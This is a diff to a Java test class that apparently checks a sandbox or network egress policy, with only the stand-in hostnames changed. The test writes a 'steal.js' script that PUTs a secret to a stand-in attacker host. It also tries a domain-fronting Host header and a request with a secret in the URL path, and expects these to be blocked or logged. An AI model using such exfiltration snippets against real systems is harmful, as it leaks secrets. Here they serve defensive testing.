@@ -82,7 +82,7 @@ class PolicyTest {
         Files.writeString(
                 thief.resolve("steal.js"),
                 """
-                const r = require('https').request('https://loot.invalid/x',
+                const r = require('https').request('https://loot.example/x',
                   {method: 'PUT'}, a => a.resume());
                 r.end('%s');
                 """
@@ -116,10 +116,10 @@ class PolicyTest {
             assertThat(
                             inside.await(
                                             RequestSent.class,
-                                            r -> r.url().equals("https://loot.invalid/x"))
+                                            r -> r.url().equals("https://loot.example/x"))
                                     .method())
                     .isEqualTo("PUT");
-            inside.await(BaitLeft.class, b -> b.destination().equals("loot.invalid:443"));
+            inside.await(BaitLeft.class, b -> b.destination().equals("loot.example:443"));
             mischief(inside, registry, host);
         }
     }
@@ -129,7 +129,7 @@ class PolicyTest {
             throws InterruptedException {
         String base = registry.resolve("/").toString();
         String put = code(inside, "-X", "PUT", "-d", "x", base + "up");
-        String fronted = code(inside, "-H", "Host: other.invalid", base + "front");
+        String fronted = code(inside, "-H", "Host: other.example", base + "front");
         String baited = code(inside, base + "pkg/" + Inside.SECRET);
 
         assertThat(put).isEqualTo("403");
